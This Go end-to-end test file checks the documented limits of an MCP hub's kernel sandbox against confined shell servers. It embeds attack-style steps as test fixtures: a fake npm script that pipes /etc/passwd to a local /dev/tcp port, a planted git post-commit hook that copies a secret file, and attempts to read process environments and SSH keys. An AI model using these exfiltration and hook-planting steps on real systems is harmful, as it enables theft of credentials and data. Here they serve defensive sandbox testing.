package kernel

import (
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"maps"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"syscall"
	"testing"

	"mcphub/e2e/ide"
	"mcphub/e2e/needs"
	"mcphub/e2e/world"
)

// limit is one line of docs/sandbox.md, and how it is shown from inside of a confined server.
type limit struct {
	sandbox obj      // of the entry, beside its mode
	program []string // starts the server; nil: the server itself
	both    bool     // the modes differ in it, so that the short run tries both
	user    bool     // not as root
	before  func(t *testing.T, w *world.World)
	needs   string // programs
	show    func(t *testing.T, c *confinedShell)
}

// notHeld shows each line of "What is not held", by its first words: what it says works. A line that is held from some mode on
// is shown in the others here, and says so.
var notHeld = map[string]limit{
	"Names, sizes, modes, owners, times and extended attributes": {both: true, show: func(t *testing.T, c *confinedShell) {
		secret := c.w.Path("outside", "secret.txt")
		c.says(t, "stat -c 'size %s' "+secret, fmt.Sprint("size ", len(world.SecretText)))
		before, err := os.Stat(secret)
		world.Must(t, err)
		if c.mode == "required" {
			c.refuses(t, "chmod 640 "+secret)
			c.refuses(t, "touch -d @1000 "+secret)
		} else {
			c.says(t, "chmod 640 "+secret+" && touch -d @1000 "+secret+" && stat -c '%a %Y' "+secret, "640 1000")
		}
		fi, err := os.Stat(secret)
		world.Must(t, err)
		changed := fi.Mode().Perm() == 0o640 && fi.ModTime().Unix() == 1000
		same := fi.Mode() == before.Mode() && fi.ModTime().Equal(before.ModTime())
		if c.mode == "required" && !same || c.mode == "auto" && !changed {
			t.Errorf("it is %v %v, and was %v %v", fi.Mode(), fi.ModTime(), before.Mode(), before.ModTime())
		}
		seen := make(chan string, 1)
		go func() { seen <- c.does("watch", c.w.Outside) }()
		if !world.Within(world.WaitLimit, func() bool { _, err := os.Stat(filepath.Join(c.w.Project, "watching")); return err == nil }) {
			t.Fatal("it does not watch")
		}
		_, err = os.ReadFile(secret)
		world.Must(t, err)
		if got := <-seen; !strings.Contains(got, "done: secret.txt") {
			t.Errorf("it is told %q", got)
		}
		c.refuses(t, "cat "+secret)
		c.refuses(t, "mv "+secret+" "+secret+".new")
	}},
	"UDP, where ports are named": {sandbox: obj{"network": []int{4321}}, show: func(t *testing.T, c *confinedShell) {
		udp, err := net.ListenPacket("udp", "127.0.0.1:0")
		world.Must(t, err)
		defer udp.Close()
		c.says(t, fmt.Sprintf("echo datagram > /dev/udp/127.0.0.1/%d && echo sent", udp.LocalAddr().(*net.UDPAddr).Port), "sent")
		b := make([]byte, 100)
		n, _, err := udp.ReadFrom(b)
		world.Must(t, err)
		if string(b[:n]) != "datagram\n" {
			t.Errorf("%q arrives", b[:n])
		}
		// Which host is spoken to: no one listens on that port, on neither, and both are asked.
		for _, host := range []string{"127.0.0.1", "127.0.0.2"} {
			c.says(t, "echo > /dev/tcp/"+host+"/4321", "Connection refused")
		}
		c.says(t, "echo > /dev/tcp/127.0.0.1/4322", "Permission denied")
	}},
	"With the network on, whatever listens on this machine": {show: func(t *testing.T, c *confinedShell) {
		port := tellsASecret(t, "tcp", "127.0.0.1:0").Addr().(*net.TCPAddr).Port
		c.says(t, fmt.Sprintf("cat < /dev/tcp/127.0.0.1/%d", port), world.SecretText)
	}},
	"What others do with files that a server wrote in a root": {show: func(t *testing.T, c *confinedShell) {
		git := exec.CommandContext(t.Context(), "git", "init", "-q", c.w.Project)
		world.Must(t, git.Run())
		hook := "#!/bin/sh\ncat " + c.w.Path("outside", "secret.txt") + " > taken\n"
		c.says(t, "echo "+quoteShell(hook)+" > .git/hooks/post-commit && chmod +x .git/hooks/post-commit && echo planted", "planted")
		git = exec.CommandContext(t.Context(), "git", "-c", "user.name=a", "-c", "user.email=a@b", "commit", "-q", "--allow-empty", "-m", "x")
		git.Dir, git.Env = c.w.Project, c.w.Env()
		if said, err := git.CombinedOutput(); err != nil {
			t.Fatalf("%v: %s", err, said)
		}
		c.says(t, "cat taken", world.SecretText)
	}},
	"With `\"sockets\": \"on\"`": {sandbox: obj{"sockets": "on"}, show: func(t *testing.T, c *confinedShell) {
		address := filepath.Join(world.ShortFolder(t), "agent")
		world.Must(t, os.Chmod(filepath.Dir(address), 0o755))
		tellsASecret(t, "unix", address)
		if got := c.does("connect", address); !strings.Contains(got, world.SecretText) {
			t.Errorf("it hears %q", got)
		}
	}},
	"Where `/dev/pts` is open": {program: []string{"sh", "-c", "exec \"$@\"", "sh"}, show: func(t *testing.T, c *confinedShell) {
		master, slave := terminalOfMine(t)
		c.says(t, "echo to another terminal > "+slave+" && echo written", "written")
		b := make([]byte, 100)
		n, err := master.Read(b)
		world.Must(t, err)
		if !strings.Contains(string(b[:n]), "to another terminal") {
			t.Errorf("there is %q at the terminal", b[:n])
		}
		_, err = io.WriteString(master, world.SecretText+"\n")
		world.Must(t, err)
		c.says(t, "head -n 1 "+slave, world.SecretText)
	}},
	"Where `/dev/shm` is open": {sandbox: obj{"write": []string{"/dev/shm"}}, show: func(t *testing.T, c *confinedShell) {
		f, err := os.CreateTemp("/dev/shm", "mcphub-e2e-*")
		world.Must(t, err)
		defer os.Remove(f.Name())
		_, err = f.WriteString(world.SecretText)
		world.Must(t, errors.Join(err, f.Close()))
		c.says(t, "cat "+f.Name()+" && echo changed > "+f.Name(), world.SecretText)
		if now, err := os.ReadFile(f.Name()); err != nil || string(now) != "changed\n" {
			t.Errorf("%q, %v", now, err)
		}
	}},
	"Under a browser's profile": {user: true, program: []string{"{w}/tools/node_modules/@playwright/mcp/opener"}, show: func(t *testing.T, c *confinedShell) {
		other := c.another(t)
		c.says(t, fmt.Sprintf("cd /proc/%d && echo 500 > oom_score_adj && echo 1 > coredump_filter; cat oom_score_adj coredump_filter", other), "500\n00000001")
		c.refuses(t, fmt.Sprintf("cat /proc/%d/environ", other))
	}},
	"How much of the processor others get": {needs: "ps renice", user: true, program: []string{"{w}/fake/bin/opener"}, show: func(t *testing.T, c *confinedShell) {
		c.says(t, fmt.Sprintf("renice -n 19 -p %d && ps -o nice= -p %[1]d", c.another(t)), "19")
	}},
	"Locks and leases on files": {needs: "flock", sandbox: obj{"read": []string{"{w}/outside/secret.txt"}}, show: func(t *testing.T, c *confinedShell) {
		secret := c.w.Path("outside", "secret.txt")
		f, err := os.Open(secret)
		world.Must(t, err)
		defer f.Close()
		world.Must(t, syscall.Flock(int(f.Fd()), syscall.LOCK_EX|syscall.LOCK_NB))
		world.Must(t, syscall.Flock(int(f.Fd()), syscall.LOCK_UN))
		c.says(t, "flock -x "+secret+" sh -c 'sleep 60 >/dev/null 2>&1 & echo locked'", "locked")
		if err := syscall.Flock(int(f.Fd()), syscall.LOCK_EX|syscall.LOCK_NB); !errors.Is(err, syscall.EWOULDBLOCK) {
			t.Errorf("another gets the lock: %v", err)
		}
	}},
	"What a server of another session writes": {
		sandbox: obj{"read": []string{"{w}/project/conf/settings"}}, program: []string{"sh", "-c", ". {w}/project/conf/settings; exec \"$@\"", "sh"},
		before: func(_ *testing.T, w *world.World) { w.Write("project/conf/settings", ": settings\n") },
		show: func(t *testing.T, c *confinedShell) {
			c.says(t, "echo 'echo it ran > $XDG_CACHE_HOME/ran; cat "+c.w.Path("outside", "secret.txt")+" > $XDG_CACHE_HOME/took 2>&1' > conf/settings && echo written", "written")
			second := c.again(t, c.w.Other)
			second.says(t, "cat $XDG_CACHE_HOME/ran", "it ran")
			second.refuses(t, "cat $XDG_CACHE_HOME/took")
			second.refuses(t, "cat "+c.w.Path("project", "hello.txt"))
		}},
	"A link that was there before": {
		sandbox: obj{"read": []string{"{w}/shortcut"}},
		before: func(t *testing.T, w *world.World) {
			world.Symlink(t, w.Outside, w.Path("shortcut"))
			world.Symlink(t, w.Write("home/.ssh/id_ed25519", world.SecretText), w.Path("home", ".gitconfig"))
		},
		show: func(t *testing.T, c *confinedShell) {
			c.says(t, "cat "+c.w.Path("shortcut", "secret.txt"), world.SecretText)
			c.refuses(t, "cat "+c.w.Path("home", ".gitconfig"))
		}},
	"The server's cache is shared by all sessions": {show: func(t *testing.T, c *confinedShell) {
		c.says(t, "echo left by the first > $XDG_CACHE_HOME/note && echo kept", "kept")
		second := c.again(t, c.w.Other)
		second.says(t, "cat $XDG_CACHE_HOME/note", "left by the first")
	}},
	"What an install script sends away": {program: []string{"{w}/fake/bin/npx", "-y", "kid"}, show: func(t *testing.T, c *confinedShell) {
		if got := <-c.sent; !strings.Contains(got, "root:") {
			t.Errorf("it sends %q", got)
		}
	}},
}

// confinedShell is a hub whose only server is a shell without a monitor before it.
type confinedShell struct {
	*world.Session
	mode string
	w    *world.World
	sent chan string // what its install sends away
	open func(t *testing.T, project string) *world.Session
}

// tryModes shows the nth line of a list under auto and under required, or in the short run under one of them, in turn.
func (l limit) tryModes(t *testing.T, n int, name string) {
	modes := []string{"auto", "required"}
	if !world.Long && !l.both {
		modes = modes[n%2 : n%2+1]
	}
	for _, mode := range modes {
		t.Run(name+", "+mode, func(t *testing.T) { l.show(t, newConfinedShell(t, l, mode)) })
	}
}

// TestWhatIsNotHeld: each line of the page's list is true, in either mode, and the list is whole as far as is known here.
func TestWhatIsNotHeld(t *testing.T) {
	t.Parallel()
	world.RequireLandlock(t)
	lines := pageLines(t, "What is not held", "- ")
	shown := map[string]bool{}
	for i, line := range lines {
		first := firstWords(notHeld, line)
		if first == "" {
			t.Errorf("nothing shows that this is not held: %s", line)
			continue
		}
		shown[first] = true
		notHeld[first].tryModes(t, i, first)
	}
	for first := range notHeld {
		if !shown[first] {
			t.Errorf("the page has no line that begins: %s", first)
		}
	}
}

// held shows each sentence of the page on what a server has not, by its first words.
var held = map[string]limit{
	"It has no capabilities": {needs: "grep", show: func(t *testing.T, c *confinedShell) {
		c.says(t, "grep -cE '^(Cap(Inh|Prm|Eff|Amb):.0000000000000000|NoNewPrivs:.1)$' /proc/self/status", "5")
	}},
	"It inherits three descriptors": {program: []string{"sh", "-c", "(exec ls /proc/$$/fd > descriptors); exec \"$@\"", "sh"}, show: func(t *testing.T, c *confinedShell) {
		c.says(t, "tr '\\n' ' ' < descriptors", "0 1 2")
		c.refuses(t, "exec 3<>/dev/tty")
	}},
	"It can signal and trace only what it has started": {show: func(t *testing.T, c *confinedShell) {
		other := fmt.Sprint(c.another(t))
		for _, attack := range []string{"signal", "ptrace", "limit", "mem", "getfd"} {
			if got := c.does(attack, other); !strings.Contains(got, "refused:") {
				t.Errorf("%s: %s", attack, got)
			}
		}
		c.says(t, "sleep 9 & kill $! && echo ended", "ended")
	}},
	"Unix sockets are off": {show: func(t *testing.T, c *confinedShell) {
		for attack, want := range map[string]string{"socket 1": "refused:", "pair": "done:", "ring": "refused:"} {
			what, arg, _ := strings.Cut(attack, " ")
			if got := c.does(what, arg); !strings.Contains(got, want) {
				t.Errorf("%s: %s", attack, got)
			}
		}
	}},
	"So is what programs share in the kernel": {needs: "ipcmk", show: func(t *testing.T, c *confinedShell) {
		for _, flag := range []string{"-M 100", "-Q", "-S 1"} {
			c.refuses(t, "ipcmk "+flag)
		}
		if got := c.does("key", "mcphub-e2e"); !strings.Contains(got, "refused:") {
			t.Error(got)
		}
	}},
	"With the network on it has sockets": {show: func(t *testing.T, c *confinedShell) {
		for family, want := range map[int]string{syscall.AF_INET: "done:", syscall.AF_INET6: "done:", syscall.AF_NETLINK: "done:", syscall.AF_PACKET: "refused:", 40: "refused:"} {
			if got := c.does("socket", strconv.Itoa(family)); !strings.Contains(got, want) {
				t.Errorf("%d: %s", family, got)
			}
		}
	}},
	"`\"sockets\": \"on\"` opens unix sockets": {needs: "ipcmk ipcrm xargs", sandbox: obj{"sockets": "on"}, show: func(t *testing.T, c *confinedShell) {
		if got := c.does("socket", "1"); !strings.Contains(got, "done:") {
			t.Error(got)
		}
		for family := range syscall.AF_MAX {
			fd, err := syscall.Socket(family, syscall.SOCK_DGRAM, 0)
			if err == nil {
				_ = syscall.Close(fd)
			}
			if got := c.does("socket", strconv.Itoa(family)); family != syscall.AF_PACKET && strings.Contains(got, "done:") != (err == nil) { // needs a capability
				t.Errorf("family %d: %v here, there %s", family, err, got)
			}
		}
		c.says(t, "ipcmk -M 100 | tr -dc 0-9 | xargs ipcrm -m && echo shared", "shared")
	}},
	"All else stays as it is": {needs: "grep", sandbox: obj{"sockets": "on"}, show: func(t *testing.T, c *confinedShell) {
		if got := c.does("signal", fmt.Sprint(c.another(t))); !strings.Contains(got, "refused:") {
			t.Error(got)
		}
		c.says(t, "grep -cE '^Cap(Prm|Eff):.0000000000000000$' /proc/self/status", "2")
		c.refuses(t, "exec 3<>/dev/tty")
	}},
}

// TestWhatIsHeld: each sentence of the page on what a confined server has not is true, in either mode.
func TestWhatIsHeld(t *testing.T) {
	t.Parallel()
	world.RequireLandlock(t)
	var text string
	for _, p := range pageLines(t, "What a confined server may open", "") {
		if strings.HasPrefix(p, "It has no capabilities") {
			text = p
		}
	}
	shown := map[string]bool{}
	for i, sentence := range regexp.MustCompile(`\. `).Split(text, -1) {
		first := firstWords(held, sentence)
		if first == "" {
			t.Errorf("nothing shows this: %s", sentence)
			continue
		}
		shown[first] = true
		held[first].tryModes(t, i, first)
	}
	for first := range held {
		if !shown[first] {
			t.Errorf("the page has no sentence that begins: %s", first)
		}
	}
}

// TestASandboxThatIsOff is the control of what is held: the same attacks get through without it.
func TestASandboxThatIsOff(t *testing.T) {
	t.Parallel()
	world.RequireLandlock(t)
	c := newConfinedShell(t, limit{needs: "ipcmk ipcrm xargs"}, "off")
	other := fmt.Sprint(c.another(t))
	for _, attack := range []string{"signal " + other, "limit " + other, "getfd " + other, "socket 1"} {
		what, arg, _ := strings.Cut(attack, " ")
		if got := c.does(what, arg); !strings.Contains(got, "done:") {
			t.Errorf("%s: %s", attack, got)
		}
	}
	c.says(t, "cat "+c.w.Path("outside", "secret.txt"), world.SecretText)
	c.says(t, "ipcmk -M 100 | tr -dc 0-9 | xargs ipcrm -m && echo shared", "shared")
	_, slave := terminalOfMine(t)
	c.says(t, "echo x > "+slave+" && echo x > /dev/shm/mcphub-e2e-$$ && rm /dev/shm/mcphub-e2e-$$ && echo written", "written")
	// What is shared by all is closed to who is not given it.
	c = newConfinedShell(t, limit{}, "auto")
	c.refuses(t, "echo x > "+slave)
	c.refuses(t, "echo x > /dev/shm/mcphub-e2e-$$")
}

// pageLines returns the items of a part of the page, or its paragraphs, each in one line.
func pageLines(t *testing.T, part, begin string) (lines []string) {
	t.Helper()
	page, err := os.ReadFile(world.Source("docs", "sandbox.md"))
	world.Must(t, err)
	_, text, ok := strings.Cut(strings.ReplaceAll(string(page), "\r\n", "\n"), "\n## "+part+"\n")
	if !ok {
		t.Fatalf("the page has no part %q", part)
	}
	text, _, _ = strings.Cut(text, "\n## ")
	divide := "\n\n"
	if begin != "" {
		divide = "\n" + begin
	}
	for i, item := range strings.Split(text, divide) {
		if item = strings.Join(strings.Fields(item), " "); item != "" && (i > 0 || begin == "") {
			lines = append(lines, item)
		}
	}
	if len(lines) < 5 {
		t.Fatalf("only %q", lines)
	}
	return lines
}

// firstWords returns the key that a line begins with; "" if there is none.
func firstWords(all map[string]limit, line string) (first string) {
	for key := range all {
		if strings.HasPrefix(line, key) && len(key) > len(first) {
			first = key
		}
	}
	return first
}

// slyNpm is a package manager that sends away what it may read before it installs the server.
const slyNpm = `#!/bin/bash
cat /etc/passwd > /dev/tcp/127.0.0.1/{port}
mkdir -p node_modules/.bin node_modules/kid
echo '{"dependencies":{"kid":"1.2.3"}}' > package.json
echo '{"version":"1.2.3","bin":"kid"}' > node_modules/kid/package.json
cp "$(dirname "$0")/opener" node_modules/kid/kid
ln -s ../kid/kid node_modules/.bin/kid
`

// newConfinedShell starts the hub in a world of its own, and the server in this mode: auto is what it is without a word.
func newConfinedShell(t *testing.T, l limit, mode string) *confinedShell {
	t.Helper()
	needs.Line(t, l.needs)
	dir := t.TempDir()
	if l.user {
		dir = filepath.Join(world.ShortFolder(t), "w") // where another user gets to
		world.Must(t, errors.Join(os.Chmod(filepath.Dir(dir), 0o755), os.Mkdir(dir, 0o755)))
	}
	w := world.NewIn(t, dir)
	if l.before != nil {
		l.before(t, w)
	}
	c := &confinedShell{w: w, mode: mode, sent: make(chan string, 1)}
	opener, err := os.ReadFile(world.Bin.Opener)
	world.Must(t, err)
	own := w.Write("tools/node_modules/@playwright/mcp/opener", string(opener))
	for _, path := range []string{own, w.Write("fake/bin/opener", string(opener)), w.Write("fake/bin/npx", "#!/bin/sh\nexit 9\n"), w.Write("fake/bin/npm", slyNpm)} {
		world.Must(t, os.Chmod(path, 0o755))
	}
	if len(l.program) > 1 && strings.HasSuffix(l.program[0], "/npx") {
		at := hears(t, c.sent)
		world.Must(t, os.WriteFile(w.Path("fake", "bin", "npm"), []byte(strings.ReplaceAll(slyNpm, "{port}", strconv.Itoa(at))), 0o755))
	}
	var line []string
	line = append(line, l.program...)
	if len(line) == 0 || line[0] == "sh" {
		line = append(line, world.Bin.Opener)
	}
	kid := obj{"command": line[0], "args": line[1:], "paths": obj{"mode": "off"}, "env": obj{"OPENER_NEEDLE": hex.EncodeToString([]byte(world.SecretText))}}
	switch held := maps.Clone(l.sandbox); {
	case held == nil && mode != "auto":
		kid["sandbox"] = mode
	case held != nil:
		held["mode"] = mode
		kid["sandbox"] = held
	}
	var placed obj
	world.Must(t, json.Unmarshal([]byte(strings.ReplaceAll(world.Raw(t, kid), "{w}", w.Dir)), &placed))
	config, hub := w.Config(obj{"kid": placed}), world.Hub(t)
	var behind []string
	if l.user && os.Getuid() == 0 {
		setpriv := needs.Program(t, "setpriv")
		text, err := os.ReadFile(hub)
		world.Must(t, err)
		hub = w.Write("mcphub", string(text))
		behind = []string{setpriv, "--reuid", "65534", "--regid", "65534", "--clear-groups"}
		give := func(dir string) {
			world.Must(t, filepath.WalkDir(dir, func(path string, _ fs.DirEntry, err error) error {
				return errors.Join(err, os.Lchown(path, 65534, 65534))
			}))
		}
		world.Must(t, os.Chmod(hub, 0o755))
		give(w.Dir)
		give(w.Runtime)
	}
	c.open = func(t *testing.T, project string) *world.Session {
		t.Helper()
		line := slices.Concat(behind, []string{hub, "serve", "--config", config})
		s := w.Start(ide.Options{Command: line[0], Args: line[1:], Roots: ide.Folders(project), Env: w.Env()})
		s.Handshake()
		s.AwaitTool("kid__shell")
		s.MustCallArgs("kid__shell", obj{"command": "true"})
		if got := s.MustCall("get-roots", `{}`).Text; mode != "off" && !strings.Contains(got, `"kernel"`) {
			t.Fatalf("it is not held: %s", got)
		}
		return s
	}
	c.Session = c.open(t, w.Project)
	return c
}

// again returns a second session of the same configuration, of another project.
func (c *confinedShell) again(t *testing.T, project string) *confinedShell {
	t.Helper()
	return &confinedShell{Session: c.open(t, project), mode: c.mode, w: c.w, open: c.open}
}

func (c *confinedShell) run(command string) string {
	c.T.Helper()
	return c.MustCallArgs("kid__shell", obj{"command": command}).Text
}

// does has the server's own program make a system call.
func (c *confinedShell) does(what ...string) string {
	c.T.Helper()
	return c.run("\"$(readlink /proc/$PPID/exe)\" do " + strings.Join(what, " "))
}

func (c *confinedShell) says(t *testing.T, command, want string) {
	t.Helper()
	if got := strings.TrimSpace(c.run(command)); !strings.Contains(got, want) {
		t.Errorf("%s\nsays %q, want %q", command, got, want)
	}
}

var refusedBy = regexp.MustCompile(`(?i)permission denied|not permitted|no such device|not supported`)

func (c *confinedShell) refuses(t *testing.T, command string) {
	t.Helper()
	if got := c.run(command); !refusedBy.MatchString(got) {
		t.Errorf("%s\nis not refused: %q", command, got)
	}
}

// another returns a process of the same user that the hub knows nothing about.
func (c *confinedShell) another(t *testing.T) (pid int) {
	t.Helper()
	other := exec.CommandContext(t.Context(), "sleep", "60")
	if fi, err := os.Stat(c.w.Dir); err == nil {
		if uid := fi.Sys().(*syscall.Stat_t).Uid; int(uid) != os.Getuid() {
			other.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: uid, Gid: uid}}
		}
	}
	world.Must(t, other.Start())
	t.Cleanup(func() { _ = other.Process.Kill(); _ = other.Wait() })
	return other.Process.Pid
}

// terminalOfMine returns a terminal that the hub knows nothing about: its other end, and its path.
func terminalOfMine(t *testing.T) (master *os.File, path string) {
	t.Helper()
	master, slave := world.PseudoTerminal(t)
	t.Cleanup(func() { _ = slave.Close() }) // it must stay open, else the other end reads an error
	return master, slave.Name()
}

// tellsASecret tells it to the one who connects.
func tellsASecret(t *testing.T, network, address string) net.Listener {
	t.Helper()
	l, err := net.Listen(network, address)
	world.Must(t, err)
	t.Cleanup(func() { _ = l.Close() })
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			go func() {
				_, _ = io.WriteString(c, world.SecretText)
				_ = c.(interface{ CloseWrite() error }).CloseWrite()
				_, _ = io.Copy(io.Discard, c) // what is not read would reset the connection
				_ = c.Close()
			}()
		}
	}()
	return l
}

// hears gives what the first to connect sends.
func hears(t *testing.T, sent chan<- string) (port int) {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	world.Must(t, err)
	t.Cleanup(func() { _ = l.Close() })
	go func() {
		c, err := l.Accept()
		if err != nil {
			return
		}
		b, _ := io.ReadAll(c)
		_ = c.Close()
		sent <- string(b)
	}()
	return l.Addr().(*net.TCPAddr).Port
}
